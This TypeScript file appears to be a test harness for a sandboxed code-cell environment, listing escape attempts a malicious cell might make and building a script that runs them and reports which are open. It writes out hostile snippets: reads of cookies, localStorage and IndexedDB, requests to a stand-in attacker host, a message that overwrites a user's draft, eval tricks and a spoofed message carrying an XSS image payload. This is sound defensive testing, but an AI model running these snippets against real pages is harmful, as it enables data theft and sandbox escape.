/** What a malicious cell would try. Each attempt is the body of an async function; a value returned means "it worked". */
export interface Targets {
	attacker: string;
	stun: string;
	site: string;
}

/** Paths that lead to the site carry this, so that its server can tell them from the page's own requests. */
export const mark = 'escape-attempt';

/** Ways to read what the page has stored. The control run in the page's own origin must read the seed with some. */
const storage: Record<string, string> = {
	indexedDB: `const database = await asked(indexedDB.open('stagecoach'));
		return JSON.stringify(await asked(database.transaction('drafts').objectStore('drafts').getAll()));`,
	databases: `return JSON.stringify(await indexedDB.databases());`,
	localStorage: `return JSON.stringify(localStorage);`,
	sessionStorage: `return JSON.stringify(sessionStorage);`,
	cookie: `return document.cookie;`,
	cookieStore: `return JSON.stringify(await cookieStore.getAll());`,
	caches: `const cache = await caches.open('seed'); return (await (await cache.match(site + '/seed')).text());`,
	'private files': `const root = await navigator.storage.getDirectory();
		return (await (await (await root.getFileHandle('seed.txt')).getFile()).text());`,
	storageBuckets: `return JSON.stringify(await navigator.storageBuckets.keys());`,
	locks: `return JSON.stringify((await navigator.locks.query()).held);`,
	BroadcastChannel: `const channel = new BroadcastChannel('seed');
		return new Promise((resolve) => { channel.onmessage = ({ data }) => resolve(data); channel.postMessage('ask'); });`,
	'drafts channel': `const channel = new BroadcastChannel('stagecoach-drafts');
		channel.postMessage({ lesson: 'statistics', cell: 'mean-and-median', source: 'overwritten by an attacker' });
		return new Promise((resolve) => { channel.onmessage = ({ data }) => resolve(JSON.stringify(data)); });`
};

/** Ways to reach a server. */
const network: Record<string, string> = {
	fetch: `return (await fetch(there('fetch'))).text();`,
	'fetch without cors': `return (await fetch(there('no-cors'), { mode: 'no-cors' })).type;`,
	'fetch from the site': `return (await fetch(here('fetch'))).text();`,
	'the prototype’s fetch': `const own = Object.getPrototypeOf(self).fetch ?? WorkerGlobalScope.prototype.fetch;
		return (await own.call(self, there('prototype-fetch'))).text();`,
	'fetch of a blob-like address': `return (await fetch({ toString: flip('blob:x', there('flip')) })).text();`,
	'fetch with a Request': `return (await fetch(new Request(there('request')))).text();`,
	XMLHttpRequest: `const request = new XMLHttpRequest(); request.open('GET', there('xhr'));
		return new Promise((resolve, reject) => { request.onload = () => resolve(request.responseText); request.onerror = () => reject(new Error('refused')); request.send(); });`,
	WebSocket: `const socket = new WebSocket(there('socket').replace('http', 'ws'));
		return new Promise((resolve, reject) => { socket.onopen = () => resolve('open'); socket.onerror = () => reject(new Error('refused')); });`,
	EventSource: `const source = new EventSource(there('events'));
		return new Promise((resolve, reject) => { source.onopen = () => resolve('open'); source.onerror = () => reject(new Error('refused')); });`,
	WebTransport: `await new WebTransport(there('transport').replace('http', 'https')).ready; return 'ready';`,
	sendBeacon: `if (!navigator.sendBeacon(there('beacon'))) throw new Error('refused'); return 'sent';`,
	RTCPeerConnection: `const connection = new RTCPeerConnection({ iceServers: [{ urls: stun }] });
		connection.createDataChannel('way out'); await connection.setLocalDescription(await connection.createOffer());
		return new Promise((resolve) => { connection.onicecandidate = ({ candidate }) => candidate?.type === 'srflx' && resolve('candidate'); });`,
	FontFace: `await new FontFace('way-out', 'url(' + there('font') + ')').load(); return 'loaded';`,
	import: `return (await import(there('module-import'))).default;`,
	'import from the site': `return (await import(here('import.js'))).default;`,
	'import of data': `return (await import('data:text/javascript,export default "evaluated"')).default;`,
	importScripts: `importScripts(there('module-scripts')); return self.reached;`,
	'importScripts of data': `importScripts('data:text/javascript,self.evaluated="evaluated"'); return self.evaluated;`,
	Image: `const image = new Image(); image.src = there('image'); await image.decode(); return 'loaded';`,
	'worker from data': `return nested('data:text/javascript,' + encodeURIComponent(sends('nested-data')));`,
	'worker from a blob': `return nested(URL.createObjectURL(new Blob([sends('nested-blob')])));`,
	'worker from the site': `return nested(here('nested.js'));`,
	'worker from its own address': `return nested(self.location.href);`,
	SharedWorker: `new SharedWorker('data:text/javascript,' + encodeURIComponent(sends('shared'))); return 'made';`,
	serviceWorker: `await navigator.serviceWorker.register(here('service.js')); return 'registered';`,
	navigation: `self.location = there('navigation'); return 'assigned';`,
	'location.assign': `self.location.assign(there('assign')); return 'assigned';`,
	open: `open(there('open')); return 'opened';`,
	Notification: `return await Notification.requestPermission();`,
	close: `self.close(); return 'closed';`
};

/** Ways to make code out of text: each would open all others. */
const evaluation: Record<string, string> = {
	eval: `return eval('1 + 1');`,
	'indirect eval': `return (0, eval)('1 + 1');`,
	Function: `return new Function('return 3')();`,
	'constructor of functions': `return (() => {}).constructor('return 4')();`,
	'constructor of async functions': `return (async () => {}).constructor('return 5')();`,
	'constructor of generators': `return (function* () {}).constructor('yield 6')().next().value;`,
	'a timer with text': `self.byTimer = 0; setTimeout('self.byTimer = 7', 0);
		await new Promise((resolve) => setTimeout(resolve, 50)); if (!self.byTimer) throw new Error('refused'); return self.byTimer;`
};

/** Ways to speak in the kernel's name. What the page does with them is what counts. */
const spoofing: Record<string, string> = {
	'a message of its own': `self.postMessage({ ready: true, output: '<img src=x onerror="window.__pwned = 1">' }); return 'sent';`,
	'another frame’s ear': `self.parent.postMessage('hello', '*'); return 'sent';`,
	'the prototype of ports': `self.caught = []; const { postMessage } = MessagePort.prototype;
		MessagePort.prototype.postMessage = function (...all) { self.caught.push(this); return postMessage.apply(this, all); };
		console.log('something to send');
		await new Promise((resolve) => setTimeout(resolve, 200));
		MessagePort.prototype.postMessage = postMessage;
		if (self.caught.length === 0) throw new Error('no port was caught'); return 'caught ' + self.caught.length;`
};

export const attempts = { storage, network, evaluation, spoofing };

/** JavaScript that makes all attempts and calls `report` with the JSON of what each one gave. */
export function attackWith(
	groups: readonly Record<string, string>[],
	{ attacker, stun, site }: Targets,
	report: string
): string {
	const entries = groups.flatMap((group) => Object.entries(group));
	const list = entries.map(([name, body]) => `${JSON.stringify(name)}: async () => { ${body} }`);
	return `{
	const stun = ${JSON.stringify(stun)};
	const there = (path) => ${JSON.stringify(attacker)} + '/' + path;
	const site = ${JSON.stringify(site)};
	const here = (path) => site + '/${mark}-' + path;
	const flip = (first, then) => { let turn = 0; return () => (turn++ === 0 ? first : then); };
	const asked = (request) => new Promise((resolve, reject) => {
		request.onsuccess = () => resolve(request.result);
		request.onerror = () => reject(request.error);
	});
	const sends = (path) => 'fetch("' + there(path) + '").then(() => postMessage("fetched"), () => postMessage(""))';
	const nested = (url) => new Promise((resolve, reject) => {
		const worker = new Worker(url);
		worker.onmessage = ({ data }) => (data === 'fetched' ? resolve(data) : reject(new Error('nested worker: no network')));
		worker.onerror = (event) => { event.preventDefault(); reject(new Error('nested worker refused')); };
	});
	const inTime = (work) => Promise.race([work, new Promise((_, reject) => setTimeout(() => reject(new Error('no answer')), 1500))]);
	const attempts = { ${list.join(',\n')} };
	const results = {};
	await Promise.all(Object.entries(attempts).map(async ([name, attempt]) => {
		try { results[name] = 'OPEN ' + String(await inTime(attempt())).slice(0, 200); }
		catch (error) { results[name] = 'closed ' + String(error?.message ?? error).slice(0, 60); }
	}));
	${report}(JSON.stringify(results));
}`;
}
